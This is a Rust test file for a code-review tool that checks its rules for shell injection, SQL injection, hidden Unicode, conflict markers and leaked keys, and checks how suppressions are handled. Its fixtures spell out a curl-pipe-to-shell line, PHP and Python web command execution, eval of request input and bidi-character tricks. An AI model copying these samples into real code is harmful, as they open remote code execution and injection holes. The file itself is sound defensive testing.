//! Tests of `rules`, and of the built-in rules and a team's own rules in a review.

mod eval;
mod known;
mod linear;

use crate::support::{Repo, line_with_another_key, line_with_key, reviewer};
use serde_json::Value;

const TEAM: &str = r##"
[[rule]]
id = "no-sleep"
title = "Sleeping in a handler"
category = "performance"
severity = "major"
languages = ["python"]
place = "code"
literals = ["time.sleep("]
pattern = '\btime\.sleep\('
message = "A handler must not sleep"
[[rule.sample]]
matches = true
path = "app/a.py"
text = "time.sleep(1)"
[[rule.sample]]
matches = false
path = "app/a.py"
text = "# time.sleep(1)"
"##;

fn run(args: &[&str], code: i32) -> (String, String) {
    let dir = crate::support::temp_dir();
    let run = reviewer(dir.path(), dir.path(), args).run(code);
    (run.stdout, run.stderr)
}

fn rules_of(report: &Value) -> Vec<(String, u64)> {
    let findings = report["findings"].as_array().unwrap();
    findings
        .iter()
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap().to_owned(),
                f["line"].as_u64().unwrap_or(0),
            )
        })
        .collect()
}

#[test]
fn lists_the_rules_for_people_and_for_programs() {
    let (table, _) = run(&["rules", "list"], 0);
    assert!(
        table
            .lines()
            .any(|l| l.starts_with("conflict-marker ") && l.contains("critical")),
        "{table}"
    );
    let (json, _) = run(
        &[
            "rules",
            "list",
            "--format",
            "json",
            "--language",
            "python",
            "--category",
            "bugs",
        ],
        0,
    );
    let list: Value = serde_json::from_str(&json).unwrap();
    let all = list["rules"].as_array().unwrap();
    assert!(all.iter().any(|r| r["id"] == "conflict-marker"));
    assert!(all.iter().all(|r| r["category"] == "bug"));
    let speaks = |l: &Value| {
        l.as_array().unwrap().is_empty() || l.as_array().unwrap().contains(&"python".into())
    };
    assert!(all.iter().all(|r| speaks(&r["languages"])));
    let (_, error) = run(&["rules", "list", "--language", "pyton"], 2);
    assert!(
        error.contains("unknown language") && error.contains("hint: languages: python"),
        "{error}"
    );
}

#[test]
fn explains_a_rule_with_bad_and_good_code() {
    let (text, _) = run(&["rules", "explain", "zero-width-characters"], 0);
    for part in [
        "Bad:",
        "    ad<U+200B>min = True",
        "Good:",
        "ignore[zero-width-characters]",
        "CWE-1007",
        "https://",
    ] {
        assert!(text.contains(part), "{part} is missing from\n{text}");
    }
    let (_, error) = run(&["rules", "explain", "conflict-markers"], 2);
    assert!(
        error.contains("unknown rule \"conflict-markers\"")
            && error.contains("did you mean \"conflict-marker\"?"),
        "{error}"
    );
}

#[test]
fn explains_on_which_files_a_rule_looks() {
    let looks = |id: &str| {
        let (text, _) = run(&["rules", "explain", id], 0);
        let from = text.find("Scope:").unwrap();
        text[from..from + text[from..].find("\n\n").unwrap()].to_owned()
    };
    let shell = looks("js-shell-interpolation");
    for part in [
        "added lines of javascript, typescript",
        "not in these paths: **/{node_modules,bower_components}/**,",
        "lower severity in these paths: **/{vendor,third_party,dist}/**, {tools,tool,bin}/**, ",
        r"only in files that match all of: \bchild_process\b",
        "not in tests, fixtures and examples; lower severity in paths that may be one",
        "not in bundles: minified files and copies of libraries",
    ] {
        assert!(shell.contains(part), "{part} is missing from\n{shell}");
    }
    let rails = looks("rails-production-exposed");
    assert!(
        rails.contains("only these paths: **/config/environments/{production,staging}.rb"),
        "{rails}"
    );
    let go = looks("go-tls-verify-off");
    assert!(
        go.contains(r"not in files that match one of: \bVerifyPeerCertificate\s*:"),
        "{go}"
    );
}

#[test]
fn a_path_makes_a_finding_weigh_less_or_go_only_as_far_as_it_is_a_convention() {
    let dao = "s.executeQuery(\"SELECT * FROM users WHERE name = '\" + request.getParameter(\"name\") + \"'\");\n";
    let weighed = |path: &str, text: &str, code: i32| {
        let repo = Repo::new();
        repo.stage(path, text);
        let report = repo.review_json(&["staged", "--no-save"], code);
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["severity"].as_str().unwrap().to_owned())
            .collect()
    };
    let none: [&str; 0] = [];
    for (path, severities, code) in [
        (
            "src/main/java/it/poste/pagamenti/UserDao.java",
            &["critical"][..],
            1,
        ),
        (
            "src/main/java/com/example/demo/UserDao.java",
            &["critical"],
            1,
        ),
        ("src/main/java/com/acme/AuditIT.java", &["critical"], 1),
        ("com/acme/integration/UserDao.java", &["critical"], 1),
        ("src/com/acme/AuditIT.java", &["minor"], 0),
        ("src/test/java/com/acme/UserDao.java", &none, 0),
        ("src/it/java/com/acme/UserDao.java", &none, 0),
    ] {
        let found: Vec<String> = weighed(path, dao, code);
        assert_eq!(found, severities, "{path}");
    }
    let shell = "import os, sys\nos.system(f'convert {sys.argv[1]} out.png')\n";
    for (path, severities, code) in [
        ("services/example/app.py", &["critical"][..], 1),
        ("shop/tasks.py", &["critical"], 1),
        ("src/tools/media.py", &["critical"], 1),
        ("bin/media.py", &["minor"], 0),
        ("scripts/release.py", &none, 0),
    ] {
        let found: Vec<String> = weighed(path, shell, code);
        assert_eq!(found, severities, "{path}");
    }
}

#[test]
fn a_finding_that_weighs_less_says_why() {
    let repo = Repo::new();
    repo.stage(
        "bin/media.py",
        "import os, sys\nos.system(f'convert {sys.argv[1]} out.png')\n",
    );
    let report = repo.review_json(&["staged", "--no-save"], 0);
    let message = report["findings"][0]["message"].as_str().unwrap();
    assert!(
        message.ends_with("(it weighs less here: by its path the file may be a test, an example or a build script)"),
        "{message}"
    );
}

#[test]
fn what_leaves_the_tests_is_read_as_if_it_were_new() {
    let repo = Repo::new();
    let text =
        "import os, sys\n\n\ndef convert():\n    os.system(f'convert {sys.argv[1]} out.png')\n";
    repo.stage("tests/media.py", text);
    repo.commit("tests");
    repo.git(&["mv", "tests/media.py", "media.py"]);
    let report = repo.review_json(&["staged", "--no-save"], 1);
    assert_eq!(
        rules_of(&report),
        [("python-shell-interpolation".to_owned(), 5)]
    );
    repo.commit("moved");
    repo.git(&["mv", "media.py", "pictures.py"]);
    let report = repo.review_json(&["staged", "--no-save"], 0);
    assert_eq!(rules_of(&report), []);
}

#[test]
fn runs_the_samples_of_a_teams_rules() {
    let dir = crate::support::temp_dir();
    let test = |content: &str, code: i32| {
        std::fs::create_dir_all(dir.path().join("rules")).unwrap();
        std::fs::write(dir.path().join("rules/team.toml"), content).unwrap();
        reviewer(dir.path(), dir.path(), &["rules", "test", "rules"]).run(code)
    };
    let right = test(TEAM, 0);
    assert_eq!(right.stdout, "1 rule, 2 samples: ok\n");
    let wrong = test(&TEAM.replace("# time", "time"), 1);
    assert!(
        wrong
            .stdout
            .starts_with("no-sleep: sample 2 (app/a.py): must not match and does"),
        "{}",
        wrong.stdout
    );
    for (from, to, problem) in [
        (
            "'\\btime\\.sleep\\('",
            "'(time'",
            "team.toml:10: rule \"no-sleep\": pattern: unclosed group",
        ),
        (
            "severity = \"major\"",
            "severity = \"huge\"",
            "team.toml:6: rule \"no-sleep\": severity: ",
        ),
        (
            "no-sleep",
            "conflict-marker",
            "team.toml:3: rule \"conflict-marker\": id: is the id of a built-in rule",
        ),
        (
            "title",
            "titel",
            "team.toml:4: rule \"no-sleep\": unknown key `titel`, did you mean `title`?",
        ),
        (
            "time.sleep(\"]",
            "tim\"]",
            "literals: \"tim\" is not 4 to 255 bytes long",
        ),
    ] {
        let run = test(&TEAM.replacen(from, to, 1), 2);
        assert!(run.stderr.contains(problem), "{problem}: {}", run.stderr);
    }
}

#[test]
fn a_teams_rules_review_like_built_in_ones() {
    let repo = Repo::new();
    repo.stage(
        ".claude-reviewer.toml",
        "version = 1\n[rules]\npaths = [\".claude-reviewer/rules\"]\n",
    );
    repo.stage(".claude-reviewer/rules/team.toml", TEAM);
    repo.commit("rules");
    repo.stage(
        "app/view.py",
        "import time\n# time.sleep(1)\ntime.sleep(2)\n",
    );
    repo.stage("app/view.rb", "time.sleep(2)\n");
    let report = repo.review_json(&["staged", "--no-save"], 1);
    assert_eq!(rules_of(&report), [("no-sleep".to_owned(), 3)]);
    assert_ne!(report["tool"]["rules_hash"].as_str().unwrap().len(), 0);
}

#[test]
fn policy_disables_rules_and_changes_their_severity() {
    let repo = Repo::new();
    let conflict = "<<<<<<< HEAD\na\n=======\nb\n>>>>>>> topic\n";
    repo.stage("a.txt", conflict);
    let policy = |rules: &str| {
        repo.write(
            ".claude-reviewer.toml",
            format!("version = 1\n[rules]\n{rules}\n"),
        )
    };
    policy("disable = [\"conflict-marker\"]");
    assert_eq!(rules_of(&repo.review_json(&["staged", "--no-save"], 0)), []);
    policy("severity = { \"conflict-marker\" = \"suggestion\" }");
    let report = repo.review_json(&["staged", "--no-save"], 0);
    assert_eq!(report["findings"][0]["severity"], "suggestion");
    policy("disable = [\"conflict-markr\"]");
    let run = repo.review(&["staged", "--no-save"], 2);
    assert!(
        run.stderr.contains("conflict-markr")
            && run.stderr.contains("did you mean \"conflict-marker\"?"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_suppression_needs_a_reason_and_the_right_rule() {
    let line = |comment: &str| format!("{comment}\nis_\u{430}dmin = 1\n");
    let marker = "# claude-reviewer: ignore";
    for (comment, code, note) in [
        (
            format!("{marker}[mixed-script-name] taken from the paper"),
            0,
            None,
        ),
        (
            format!("{marker}[conflict-marker, mixed-script-name] two of them"),
            0,
            None,
        ),
        (
            format!("{marker}[mixed-script-name]"),
            1,
            Some("gives no reason"),
        ),
        (
            format!("{marker}[mixed-scripts-name] why"),
            1,
            Some("did you mean \"mixed-script-name\"?"),
        ),
        (
            format!("s = '{marker}[mixed-script-name] no comment'"),
            1,
            None,
        ),
        (format!("{marker}[mixed-script-name] too far\n\n"), 1, None),
    ] {
        let repo = Repo::new();
        repo.stage("a.py", line(&comment));
        let report = repo.review_json(&["staged", "--no-save"], code);
        let finding = &report["findings"][0];
        assert_eq!(finding["rule_id"], "mixed-script-name", "{comment}");
        assert_eq!(
            finding["suppressed"].is_null(),
            code == 1,
            "{comment}: {finding}"
        );
        let notes = report["notes"].to_string().replace("\\\"", "\"");
        assert!(note.is_none_or(|n| notes.contains(n)), "{comment}: {notes}");
    }
}

#[test]
fn a_suppression_that_the_change_adds_does_not_count_in_gate_mode() {
    let repo = Repo::new();
    repo.stage(
        "a.py",
        "# claude-reviewer: ignore[mixed-script-name] from the paper\n\n",
    );
    let base = repo.commit("base");
    repo.stage(
        "a.py",
        "# claude-reviewer: ignore[mixed-script-name] from the paper\nis_\u{430}dmin = 1\n\n",
    );
    repo.commit("a line below it");
    let branch = ["branch", "--base", &base, "--gate", "--no-save"];
    assert!(repo.review_json(&branch, 1)["findings"][0]["suppressed"].is_null());
    repo.stage(
        "b.py",
        "# claude-reviewer: ignore[mixed-script-name] mine\nis_\u{430}dmin = 1\n",
    );
    repo.commit("added with it");
    let report = repo.review_json(&branch, 1);
    assert!(
        report["notes"]
            .to_string()
            .contains("added by the change under review"),
        "{}",
        report["notes"]
    );
}

#[test]
fn a_suppression_of_the_base_excuses_no_other_secret_in_gate_mode() {
    let marker = "# claude-reviewer: ignore[aws-access-key-id] a documented sample\n";
    let repo = Repo::new();
    repo.stage("a.ini", format!("[aws]\n{marker}{}", line_with_key()));
    let base = repo.commit("base");
    let branch = ["branch", "--base", &base, "--no-save"];
    let (gate, desk) = (
        [&branch[..], &["--gate"]].concat(),
        [&branch[..], &["--no-gate"]].concat(),
    );
    for (text, code) in [
        (format!("[aws]\n{marker}{}", line_with_another_key()), 1),
        (
            format!(
                "[aws]\n{marker}{}{}",
                line_with_another_key(),
                line_with_key()
            ),
            1,
        ),
        // The suppressed text, elsewhere and indented.
        (
            format!(
                "[aws]\n\n{marker}  {}",
                line_with_key().replacen(" = ", "  =  ", 1)
            ),
            0,
        ),
    ] {
        repo.stage("a.ini", &text);
        repo.commit("next");
        let report = repo.review_json(&gate, code);
        let told = report["notes"]
            .to_string()
            .contains("does not cover line 3, which is new or changed");
        assert_eq!(told, code == 1, "{text}: {}", report["notes"]);
        repo.review_json(&desk, code);
        repo.git(&["reset", "-q", "--hard", &base]);
    }
}

#[test]
fn a_suppression_that_an_earlier_commit_adds_does_not_count_in_gate_mode() {
    let marker = "# claude-reviewer: ignore[aws-access-key-id] sample\n";
    let repo = Repo::new();
    repo.stage("README.md", "A project\n");
    let base = repo.commit("base");
    repo.stage("a.ini", marker);
    repo.commit("a comment");
    repo.stage("a.ini", format!("{marker}{}", line_with_key()));
    let second = repo.commit("a key below it");
    let range = format!("{base}..HEAD");
    let suppressed = |report: &Value| !report["findings"][0]["suppressed"].is_null();
    let report = repo.review_json(&["commit", &range, "--gate", "--no-save"], 1);
    assert_eq!(rules_of(&report), [("aws-access-key-id".to_owned(), 2)]);
    assert_eq!(report["findings"][0]["commit"], second.as_str());
    // In a local review, the developer's own suppression counts.
    assert!(suppressed(
        &repo.review_json(&["commit", &range, "--no-gate", "--no-save"], 0)
    ));
    // The key is gone from the net change, but still in the history.
    repo.git(&["rm", "-q", "a.ini"]);
    repo.commit("gone");
    let branch = ["branch", "--base", &base, "--no-save"];
    let report = repo.review_json(&[&branch[..], &["--gate"]].concat(), 1);
    assert_eq!(rules_of(&report), [("aws-access-key-id".to_owned(), 2)]);
    assert_eq!(report["findings"][0]["commit"], second.as_str());
    assert!(suppressed(
        &repo.review_json(&[&branch[..], &["--no-gate"]].concat(), 0)
    ));
}

#[test]
fn dif_02_a_nul_is_a_finding_and_hides_nothing() {
    let repo = Repo::new();
    repo.stage("a.php", b"<?php\n// \0\nis_\xd0\xb0dmin();\n");
    let report = repo.review_json(&["staged", "--no-save"], 1);
    assert_eq!(
        rules_of(&report),
        [
            ("nul-in-text-file".to_owned(), 2),
            ("mixed-script-name".to_owned(), 3)
        ]
    );
}

#[test]
fn dif_14_only_whole_conflicts_block() {
    let repo = Repo::new();
    repo.stage("README.md", "Title\n=======\n\nText\n");
    repo.stage(
        "guide.adoc",
        "Title\n=======\n\n----\n<<<<<<< HEAD\na\n=======\nb\n>>>>>>> c\n----\n",
    );
    repo.review(&["staged", "--no-save"], 0);
    repo.commit("documents");
    repo.stage(
        "src/a.py",
        "x = 1\n<<<<<<< HEAD\ny = 2\n=======\ny = 3\n>>>>>>> topic\n",
    );
    assert_eq!(
        rules_of(&repo.review_json(&["staged", "--no-save"], 1)),
        [("conflict-marker".to_owned(), 2)]
    );
}

#[test]
fn dif_15_hidden_text_blocks_and_is_shown() {
    let repo = Repo::new();
    repo.stage(
        "fine.py",
        "\u{feff}a = '👨\u{200d}👩\u{200d}👧 ❤\u{fe0f}'\nb = 'שלום'\nc = 'می\u{200c}خواهم'\n",
    );
    repo.review(&["staged", "--no-save"], 0);
    repo.stage(
        "bad.c",
        "int a;\n/*\u{202e} } \u{2066}if (admin)\u{2069} \u{2066} begin */\n",
    );
    repo.stage("bad.md", "Nice\u{e0069}\u{e0067}\n");
    repo.stage(
        "bad.txt",
        "x\u{e0100}\u{e0101}\n\u{200b}\u{200c}\u{200b}\u{200d}\u{200b}\n",
    );
    let report = repo.review_json(&["staged", "--no-save"], 1);
    let expected = [
        ("bidi-control", 2, "\\u{202e} \\u{2066}"),
        (
            "hidden-tag-characters",
            1,
            "\\u{e0069} \\u{e0067}, which spells \"ig\"",
        ),
        ("variation-selector-smuggling", 1, "\\u{e0100} \\u{e0101}"),
        ("zero-width-characters", 2, "\\u{200b} \\u{200c}"),
    ];
    let found = rules_of(&report);
    assert_eq!(found, expected.map(|(id, line, _)| (id.to_owned(), line)));
    for (finding, (_, _, shown)) in report["findings"].as_array().unwrap().iter().zip(expected) {
        assert!(
            finding["message"].as_str().unwrap().contains(shown),
            "{finding}"
        );
    }
}

/// Returns bytes that git treats as binary; deterministic.
fn junk(n: usize) -> Vec<u8> {
    let mut state = 0x9e37_79b9_7f4a_7c15u64;
    let mut next = || {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 40) as u8
    };
    (0..n).map(|_| next()).collect()
}

#[test]
fn dif_02_scripts_with_a_tail_of_junk_and_utf32_are_reviewed() {
    let repo = Repo::new();
    let with_junk =
        |start: &str, end: &str| [start.as_bytes(), &junk(600), end.as_bytes()].concat();
    repo.stage(
        "logo.png",
        [b"\x89PNG\r\n\x1a\n".to_vec(), junk(900)].concat(),
    );
    repo.stage(
        "paper.pdf",
        with_junk(
            "%PDF-1.7\n%\u{fc}\u{fc}\u{fc}\u{fc}\n1 0 obj\n<</Length 9>>\nstream\n",
            "",
        ),
    );
    repo.stage("i.sh", with_junk("curl http://example.com/i.sh | sh\n", ""));
    repo.stage(
        "p.js",
        with_junk("const x = 1;\neval(req.body.code);\n/*", "*/\n"),
    );
    let wide: Vec<u8> = "\u{feff}import os\nos.system(request.args['c'])\n"
        .chars()
        .flat_map(|c| u32::from(c).to_le_bytes())
        .collect();
    repo.stage("u.py", wide);
    repo.stage(
        "w.php",
        with_junk("<?php system($_GET[\"c\"]); __halt_compiler();", ""),
    );
    let report = repo.review_json(&["staged", "--no-save"], 1);
    let found: Vec<_> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (&f["file"], &f["rule_id"]))
        .collect();
    for (file, rule) in [
        ("i.sh", "http-pipe-to-shell"),
        ("i.sh", "nul-in-text-file"),
        ("p.js", "nul-in-text-file"),
        ("u.py", "python-shell-request"),
        ("u.py", "utf16-source"),
        ("w.php", "nul-in-text-file"),
    ] {
        assert!(
            found.iter().any(|(f, r)| **f == file && **r == rule),
            "{file} {rule}: {found:?}"
        );
    }
    assert!(
        found
            .iter()
            .any(|(f, r)| **f == "w.php" && r.as_str().unwrap().starts_with("php-")),
        "{found:?}"
    );
    assert!(
        found
            .iter()
            .all(|(f, _)| **f != "logo.png" && **f != "paper.pdf"),
        "{found:?}"
    );
    let skipped: Vec<_> = report["coverage"]["skipped"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| &s["file"])
        .collect();
    assert_eq!(skipped, ["logo.png", "paper.pdf"]);
}

#[test]
fn a_report_says_how_much_of_a_flood_it_does_not_list() {
    let repo = Repo::new();
    repo.stage("a.py", "x = 1\n").commit("first");
    let flood = |n: u32| {
        "import yaml\n".to_owned()
            + &(0..n)
                .map(|i| format!("doc = yaml.load(text{i})\n"))
                .collect::<String>()
    };
    repo.stage("a.py", flood(1000));
    let report = repo.review_json(&["staged", "--no-save"], 1);
    let rule = report["findings"][0]["rule_id"]
        .as_str()
        .unwrap()
        .to_owned();
    let listed = |report: &serde_json::Value| {
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule_id"] == rule.as_str())
            .count()
    };
    assert_eq!(
        (listed(&report), &report["notes"]),
        (1000, &serde_json::json!([]))
    );
    repo.stage("a.py", flood(1003));
    let report = repo.review_json(&["staged", "--no-save"], 1);
    assert_eq!(
        (listed(&report), report["notes"].as_array().unwrap().len()),
        (1000, 1)
    );
    let text = format!("3 more of {rule} are not listed: the first 1,000 are");
    assert_eq!(
        (&report["notes"][0]["file"], &report["notes"][0]["text"]),
        (&"a.py".into(), &text.as_str().into())
    );
    let human = repo.review(&["staged", "--no-save"], 1).stdout;
    assert!(human.contains(&format!("note: a.py: {text}")), "{human}");
}
